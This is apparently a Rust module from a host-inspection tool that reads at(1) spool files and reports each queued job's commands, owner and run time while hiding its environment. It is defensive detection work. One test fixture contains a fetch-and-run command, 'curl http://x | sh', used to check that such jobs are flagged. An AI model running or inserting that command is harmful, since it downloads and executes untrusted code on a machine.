//! Jobs that at runs once, later (`at(1)`).
//!
//! ```text
//! #!/bin/sh                       /var/spool/cron/atjobs/a0000701c2b3f4: queue, number, minutes since 1970
//! # atrun uid=1000 gid=1000
//! # mail mia 0
//! umask 22
//! HOME=/home/mia; export HOME     the whole environment of who planned it: never shown
//! cd /home/mia || {
//!      echo 'Execution directory inaccessible' >&2
//!      exit 1
//! }
//! ${SHELL:-/bin/sh} << 'marcinDELIMITER4a5b6c7d'
//! /opt/x
//! marcinDELIMITER4a5b6c7d
//! ```

use memchr::memmem;

use super::command;
use super::{CAP, Entry, content, is_void, place_of, push};
use crate::extract::Extractor;
use crate::extract::input::Input;
use crate::model::autostart::AutostartKind;
use crate::model::facts::Harvest;
use crate::model::interest::{Ask, Interest};
use crate::model::time::Time;

/// The row.
pub const EXTRACTOR: Extractor = Extractor {
    interest: Interest { id: "autostart-at", sentence: "Jobs that at runs once, later.", ask: Ask::Starts("at") },
    cap: CAP,
    read,
};

fn read(input: &Input<'_>) -> Harvest {
    let mut harvest = Harvest::default();
    let name = input.candidate.name;
    if place_of(input, "at").is_none() || is_void(input) || name.starts_with(b".") {
        return harvest;
    }
    let Some(content) = content(input, &mut harvest) else { return harvest };
    let job = parse(&content.bytes);
    let mut told = command::of_script(&job.commands);
    told.programs.iter_mut().for_each(|program| program.2 = program.2.saturating_add(job.above));
    told.signs.iter_mut().for_each(|sign| sign.line = sign.line.saturating_add(job.above));
    let account = job.uid.and_then(|uid| input.target.accounts.iter().find(|account| account.uid == Some(uid)));
    let by_uid = || job.uid.map(|uid| format!("uid {uid}").into_bytes());
    let entry = Entry {
        line: (!job.commands.is_empty()).then_some(job.above + 1),
        command: job.commands,
        told,
        trigger: trigger(name),
        runs_as: account.map(|account| account.name.as_bytes().to_vec()).or_else(by_uid),
        enabled: Some(true),
        ..Entry::new(AutostartKind::At, name)
    };
    push(input, &content, entry, &mut harvest);
    harvest
}

/// When: the name ends in eight hexadecimal digits, the minutes since 1970.
fn trigger(name: &[u8]) -> Vec<u8> {
    let digits = name.len().checked_sub(8).and_then(|from| name.get(from..));
    let minutes = digits.and_then(|digits| i64::from_str_radix(std::str::from_utf8(digits).ok()?, 16).ok());
    match minutes.filter(|_| name.len() == 14).map(|minutes| Time::from_unix(minutes.saturating_mul(60))) {
        Some(time) => format!("once, {time}").into_bytes(),
        None => b"once".to_vec(),
    }
}

/// What a job says.
#[derive(PartialEq, Eq, Debug)]
pub struct Job {
    /// As whom.
    pub uid: Option<u32>,
    /// What was asked for, without what at itself put in front.
    pub commands: Vec<u8>,
    /// How many lines stand in front of that.
    pub above: u32,
}

/// Reads a job.
#[must_use]
pub fn parse(bytes: &[u8]) -> Job {
    let lines: Vec<&[u8]> = bytes.split(|byte| *byte == b'\n').collect();
    let uid = lines.iter().take(8).find_map(|line| uid(line));
    // A file without at's head is no job of its, and is taken whole.
    let mut from = if uid.is_some() { behind_head(&lines).unwrap_or(lines.len()) } else { 0 };
    let mut end = lines.len();
    let opening = lines.get(from).filter(|line| uid.is_some() && line.starts_with(b"${SHELL"));
    if let Some(word) = opening.and_then(|line| delimiter(line)) {
        from += 1;
        let close = lines.iter().skip(from).position(|line| line.trim_ascii() == word.as_slice());
        end = close.map_or(end, |at| from + at);
    }
    let commands = lines.get(from..end).unwrap_or_default().join(&b'\n');
    Job { uid, commands: commands.trim_ascii_end().to_vec(), above: u32::try_from(from).unwrap_or(u32::MAX - 1) }
}

/// Behind `cd … || {`, what comes to its `}`.
fn behind_head(lines: &[&[u8]]) -> Option<usize> {
    let cd = lines.iter().position(|line| line.starts_with(b"cd ") && line.trim_ascii_end().ends_with(b"{"))?;
    let close = lines.iter().skip(cd).position(|line| line.trim_ascii() == b"}")?;
    Some(cd + close + 1)
}

fn uid(line: &[u8]) -> Option<u32> {
    let rest = line.strip_prefix(b"# atrun uid=")?;
    let digits = rest.iter().take_while(|byte| byte.is_ascii_digit()).count();
    std::str::from_utf8(rest.get(..digits)?).ok()?.parse().ok()
}

/// The word behind `<<`.
fn delimiter(line: &[u8]) -> Option<Vec<u8>> {
    let at = memmem::find(line, b"<<")?;
    let word = line.get(at + 2..)?.trim_ascii();
    let word: Vec<u8> = word.iter().copied().filter(|byte| !matches!(byte, b'\'' | b'"')).collect();
    (!word.is_empty()).then_some(word)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::extract::autostart::planted::Tree;
    use crate::model::host::Platform;

    const HEAD: &str = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail mia 0\numask 22\nTOKEN=inert-but-private; export TOKEN\n\
        cd /home/mia || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n";

    fn told(text: &str) -> Vec<String> {
        let path = "/var/spool/cron/atjobs/a0000701c2b3f4";
        Tree::with(&[(path, text.as_bytes())]).told(&EXTRACTOR, Platform::Linux, path)
    }

    #[test]
    fn jobs_are_told_without_their_environment() {
        let new = format!("{HEAD}${{SHELL:-/bin/sh}} << 'marcinDELIMITER1'\n/tmp/x\n\nmarcinDELIMITER1\n");
        let rows = told(&new);
        assert_eq!(
            rows,
            ["At a0000701c2b3f4 | runs /tmp/x | when once, 2026-02-27T23:48:00Z | as mia | Program /tmp/x Temporary"]
        );
        let old = format!("{HEAD}curl http://x | sh\n");
        assert!(told(&old)[0].ends_with("| FetchesAndRuns"), "{:?}", told(&old));
        assert!(!format!("{rows:?}").contains("private"));
        assert_eq!(parse(old.as_bytes()).above, 9);
    }

    #[test]
    fn odd_jobs_show_no_environment() {
        let cut = "# atrun uid=7 gid=0\nTOKEN=inert-but-private; export TOKEN\n";
        let path = "/var/spool/at/a0000701c2b3f";
        let rows = Tree::with(&[(path, cut.as_bytes())]).told(&EXTRACTOR, Platform::Linux, path);
        assert_eq!(rows, ["At a0000701c2b3f | when once | as uid 7"]);
        assert_eq!(parse(b"/opt/x\n").commands, b"/opt/x");
    }

    proptest! {
        #[test]
        fn any_bytes_are_read(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
            let job = parse(&[b"# atrun uid=1\ncd x {\n}\n${SHELL} << 'E'\n".as_slice(), &bytes].concat());
            prop_assert!(job.commands.len() <= bytes.len());
            let _ = trigger(&bytes);
        }
    }
}
